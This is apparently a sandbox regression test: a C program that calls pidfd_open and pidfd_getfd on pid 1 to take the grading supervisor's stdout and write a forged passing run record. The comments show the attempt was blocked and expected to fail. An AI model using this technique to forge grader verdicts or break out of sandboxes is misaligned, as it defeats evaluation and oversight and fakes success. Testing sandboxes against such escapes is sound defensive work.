// attack: at run time, takes the supervisor's (pid 1's) stdout, the verdict channel, with pidfd_getfd and writes a forged passing record
// test: {"kind": "stdio", "stdin": "", "expected_stdout": "escaped\n"}
// expect: WRONG_ANSWER
// stopped: WrongAnswer: expected 'escaped\\n', got 'pidfd_getfd: Operation not permitted\\n'
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    int pidfd = syscall(434, 1, 0); /* pidfd_open */
    int stolen = pidfd < 0 ? -1 : syscall(438, pidfd, 1, 0); /* pidfd_getfd */
    if (stolen < 0) {
        printf("pidfd_getfd: %s\n", strerror(errno));
        return 0;
    }
    const char *forged = "{\"event\": \"run\", \"index\": 0, \"exit_code\": 0, \"cpu_ms\": 1.0, "
                         "\"wall_ms\": 1.0, \"peak_memory_bytes\": 1, \"stdout\": \"escaped\\n\", "
                         "\"stdout_total\": 8, \"stderr\": \"\", \"stderr_total\": 0, \"killed_by\": \"\", "
                         "\"result\": \"\"}\n{\"event\": \"done\"}\n";
    write(stolen, forged, strlen(forged));
    return 0;
}
